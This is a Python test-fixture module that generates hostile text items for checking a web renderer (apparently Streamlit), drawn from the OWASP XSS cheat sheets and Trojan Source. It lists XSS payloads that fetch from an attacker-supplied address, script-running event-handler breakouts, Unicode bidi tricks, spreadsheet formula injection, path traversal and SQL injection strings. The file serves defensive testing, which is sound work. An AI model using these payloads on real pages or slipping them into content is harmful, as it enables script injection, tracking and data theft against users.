"""Items of people who attack whoever reads them: mild in words, and made to run, load or break.

Kinds are those of the OWASP cheat sheets on XSS and its evasion, of Markdown, Vega and LaTeX as
Streamlit shows them, and of Unicode (UTS #39, Trojan Source).
"""

from collections.abc import Iterator, Mapping
from typing import Final

#: What would fetch, where `{}` is an address of the one who attacks.
_FETCHING: Final = (
    "<img src={}>",
    '<img src="{}" onerror=alert(1)>',
    '<IMG """><SCRIPT SRC={}></SCRIPT>">',
    '<image href="{}">',
    "<picture><source srcset={}><img></picture>",
    '<svg><image href="{}"/></svg>',
    '<svg><use href="{}#x"/></svg>',
    "<video src={} autoplay></video>",
    "<audio src={} autoplay></audio>",
    "<iframe src={}></iframe>",
    '<iframe srcdoc="<img src={}>"></iframe>',
    "<object data={}></object>",
    "<embed src={}>",
    "<link rel=stylesheet href={}>",
    "<link rel=prefetch href={}>",
    "<link rel=dns-prefetch href={}>",
    "<style>@import url({});</style>",
    "<style>body{{background:url({})}}</style>",
    '<div style="background-image:url({})">x</div>',
    '<body background="{}">',
    '<table background="{}"><td>x',
    '<input type=image src="{}">',
    '<meta http-equiv=refresh content="0;url={}">',
    '<form action="{}"><button autofocus>x</button></form>',
    "<base href={}>",
    "<script src={}></script>",
    "<script>fetch('{}')</script>",
    "<script>new Image().src='{}'</script>",
    "![picture]({})",
    "[![picture]({})]({})",
    "![picture][1]\n\n[1]: {}",
    "<{}>",
    "[link]({})",
    "$\\href{{{}}}{{x}}$",
    "$\\includegraphics{{{}}}$",
    ":streamlit: ![x]({})",
)
#: What would run.
_RUNNING: Final = (
    "<script>document.title='owned'</script>",
    "</script><script>document.title='owned'</script>",
    "<svg onload=document.title='owned'>",
    "<svg><animate onbegin=document.title='owned' attributeName=x dur=1s>",
    "<details open ontoggle=document.title='owned'>",
    "<body onload=document.title='owned'>",
    "<input autofocus onfocus=document.title='owned'>",
    "<a href=\"javascript:document.title='owned'\">x</a>",
    "[x](javascript:document.title='owned')",
    "<math><mtext></mtext><mglyph><style></math><img src onerror=document.title='owned'>",
    "<noscript><p title='</noscript><img src=x onerror=document.title=1>'>",
    "{{constructor.constructor('document.title=1')()}}",
    "${document.title='owned'}",
    "#{document.title='owned'}",
    "<template><script>document.title='owned'</script></template>",
    "<xss style=animation-name:x onanimationstart=document.title='owned'>",
    "<marquee onstart=document.title='owned'>x</marquee>",
    "<isindex type=image src=1 onerror=document.title='owned'>",
    "data:text/html,<script>document.title='owned'</script>",
    "\\u003cscript\\u003edocument.title='owned'\\u003c/script\\u003e",
    "&lt;script&gt;document.title='owned'&lt;/script&gt;",
    "%3Cscript%3Edocument.title='owned'%3C/script%3E",
    "'-document.title-'",
    '"});document.title="owned";({"',
    "</textarea><script>document.title='owned'</script>",
    "</title><script>document.title='owned'</script>",
    "--><script>document.title='owned'</script>",
    "]]><script>document.title='owned'</script>",
)
#: What would break the page, or say something else than it shows.
_BREAKING: Final = (
    "W" * 5_000,
    "word " * 4_000,
    "\n" * 500,
    "\u202eright to left\u202c and back",
    "\u2066\u2067\u2068 isolates that nobody ends",
    "a" + "\u0301" * 300,
    "\u2400\u2401 pictures of controls",
    "\u200b" * 1_000,
    "\ufeff" * 10,
    "\U0001f469\u200d\U0001f4bb" * 300,
    "\u0627\u0644\u0633\u0644\u0627\u0645 123 <b>x</b>",
    "| a | b |\n|---|---|\n" + "| x | y |\n" * 200,
    "# " + "heading " * 200,
    "#" * 300,
    "- " * 500,
    "> " * 500 + "quoted",
    "```\n" * 100,
    "$$" + "\\frac{1}{" * 100 + "$$",
    ":material/delete: :red[alarm] :blue-background[x]",
    ":rocket: " * 300,
    "<b>" * 500,
    "</div>" * 200,
    "<style>*{display:none!important}</style>",
    '<div style="position:fixed;inset:0;z-index:99999;background:red">over all</div>',
    "<plaintext>",
    "<!--",
    "<textarea>",
    "<select><option>",
    "</script></style></body></html>",
    "\x1b[2J\x1b[31mterminal",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{" * 500,
    "%s%s%s%n" * 50,
    "../../../../etc/hosts",
    "'; DROP TABLE items; --",
)


def items(address: str) -> Iterator[Mapping[str, object]]:
    """All of them.

    Args:
        address: Of a server that must not be asked for anything.
    """
    for text in (*(each.format(*[address] * 2) for each in _FETCHING), *_RUNNING, *_BREAKING):
        yield {"text": text}
